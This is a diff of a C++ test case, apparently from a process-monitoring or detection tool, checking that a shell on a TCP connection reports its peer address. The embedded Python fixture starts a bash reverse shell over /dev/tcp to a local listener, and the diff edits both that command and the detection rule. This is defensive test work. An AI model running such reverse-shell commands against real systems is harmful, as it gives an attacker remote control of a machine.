@@ -36,12 +36,12 @@ TEST_CASE("a shell on a TCP connection tells who is at its other end, as of a re
   // The listener is python3, the shell is started as everybody does it by hand.
   Shells shells;
   const auto seen = shells.watch(
-      "process.traits has stdin_socket and process.stdin.peer_address in 127.0.0.0/8 and process.stdin.peer_port >= 1024", R"(
+      "process.traits has stdin_socket and process.stdin.peer_address in [127.0.0.0/8] and process.stdin.peer_port >= 1024", R"(
 import socket, subprocess
 listener = socket.create_server(("127.0.0.1", 0))
 port = listener.getsockname()[1]
 print(port, flush=True)
-victim = subprocess.Popen(["bash", "-c", f"exec bash -i <>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0"], close_fds=True)
+victim = subprocess.Popen(["bash", "-c", f"exec bash --norc -i <>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0"], close_fds=True)
 there, _ = listener.accept()
 import time
 time.sleep(1)
